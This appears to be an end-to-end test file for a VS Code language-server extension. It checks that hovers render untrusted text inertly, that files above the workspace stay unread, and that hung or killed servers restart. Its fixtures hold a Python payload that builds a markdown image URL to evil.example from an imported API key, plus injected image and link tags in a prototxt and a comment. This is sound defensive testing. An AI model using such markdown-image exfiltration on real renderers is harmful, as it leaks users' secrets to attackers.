// A hostile file in a real VS Code: its hover requests nothing, and what it computes is shown as text. A server that hangs is replaced.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { Workbench } from '../support/workbench.js';
import { makeWorkspace } from '../support/workspace.js';

/** Images whose addresses are computed from what other files hold: one beside it, and one above the workspace. */
const spy = (from: string): string => `import torch, torch.nn as nn
from ${from} import API_KEY
class N(nn.Module):
    """![](https://evil.example/doc.png) [press me](https://evil.example/)"""
    def __init__(self):
        super().__init__()
        self.c = nn.Conv2d(3, 8, 3)
    def forward(self, x):
        y = self.c(x)
        return getattr(torch, "![](https://evil.example/" + API_KEY + ".png) <img src=https://evil.example/y.png>")(y)
`;
const net = 'net Small {\n  input x: 3 x 8 x 8\n  Conv(4, 3)\n}\n';

/** The server's process: the descendant of ours that runs it. */
function serverProcess(): number {
  const rows = execFileSync('ps', ['-eo', 'pid=,ppid=,args='], { encoding: 'utf8' }).trim().split('\n');
  const all = rows.map((row) => /^\s*(\d+)\s+(\d+)\s+(.*)$/.exec(row) ?? []);
  const parents = new Map(all.map(([, pid, parent]) => [Number(pid), Number(parent)]));
  const isOurs = (pid: number | undefined): boolean =>
    pid === process.pid || (pid !== undefined && pid > 1 && isOurs(parents.get(pid)));
  const found = all.filter(([, pid, , args]) => args?.includes('dist/server.js') && isOurs(Number(pid)));
  assert.equal(found.length, 1, 'one language server');
  return Number(found[0]?.[1]);
}

/** Whether one server runs, and it is not this one. */
function isReplaced(old: number): boolean {
  try {
    return serverProcess() !== old;
  } catch {
    return false;
  }
}

describe('security in VS Code', () => {
  let code: Workbench;
  const requested: string[] = [];

  before(async () => {
    const above = makeWorkspace('security');
    const folder = path.join(above, 'work');
    mkdirSync(folder);
    for (const each of [above, folder])
      writeFileSync(path.join(each, 'our_keys.py'), 'API_KEY = "sk-live-12345"\n');
    writeFileSync(path.join(folder, 'beside.py'), spy('our_keys'));
    writeFileSync(path.join(folder, 'outside.py'), spy('..our_keys'));
    writeFileSync(
      path.join(folder, 'caffe.prototxt'),
      'name: "![](https://evil.example/n.png)"\nlayer { name: "odd" type: "![](https://evil.example/t.png)" bottom: "x" top: "y" }\n',
    );
    writeFileSync(path.join(folder, 'small.fovea'), `/// ![](https://evil.example/f.png)\n${net}`);
    code = await Workbench.open(folder, 'beside.py', {
      watch: (page) => page.context().on('request', (request) => requested.push(request.url())),
    });
  });

  after(() => code?.close());

  afterEach(async function () {
    if (this.currentTest?.state === 'failed') await code.photograph(`failed ${this.currentTest.title}`);
  });

  /** Of a hover that is shown: its text, and that nothing in it refers anywhere. */
  const check = async (inLine: string, text: string, expected: string): Promise<string> => {
    const shown = await code.hover(inLine, text, expected);
    const active = code.page.locator('.monaco-hover').locator('img, a[href^="http"], a[data-href^="http"]');
    assert.equal(await active.count(), 0);
    assert.deepEqual(
      requested.filter((url) => url.includes('evil.example')),
      [],
    );
    return shown;
  };

  it('requests nothing for a hover whose text a file has computed', async () => {
    const shown = await check('return getattr', 'getattr', 'unknown');
    await code.photograph('security hover');
    // Read, since it lies in the workspace, and shown as it is written.
    assert.ok(shown.includes('![](https://evil.example/sk-live-12345.png)'), shown);
  });

  it('reads nothing above the workspace', async () => {
    await code.goTo('outside.py');
    const shown = await check('return getattr', 'getattr', 'unknown');
    assert.ok(!shown.includes('sk-live'), shown);
  });

  it('requests nothing for names and documentation either', async () => {
    await code.goTo('caffe.prototxt');
    await check('layer {', 'odd', 'unknown');
    await code.goTo('small.fovea');
    await check('net Small', 'Small', 'evil.example');
  });

  /** What becomes of the lens when the server is stopped in some way. */
  const survives = async (stop: (server: number) => Promise<void> | void): Promise<void> => {
    await code.goTo('small.fovea');
    await code.lens('112 params').waitFor();
    const old = serverProcess();
    await stop(old);
    // The lens of the old server may stand until that of the new one comes: the process tells them apart.
    while (!isReplaced(old)) await code.page.waitForTimeout(100);
    await code.lens('112 params').waitFor();
    // A hover is answered by the new server alone.
    await code.hover('net Small', 'Small', '112');
  };

  it('starts a server anew that does not answer', async function () {
    if (process.platform === 'win32') this.skip();
    await survives(async (server) => {
      process.kill(server, 'SIGSTOP');
      await code.command('Fovea: Restart Server');
    });
  });

  it('starts a server anew that has died', async function () {
    if (process.platform === 'win32') this.skip();
    await survives((server) => void process.kill(server, 'SIGKILL'));
  });
});
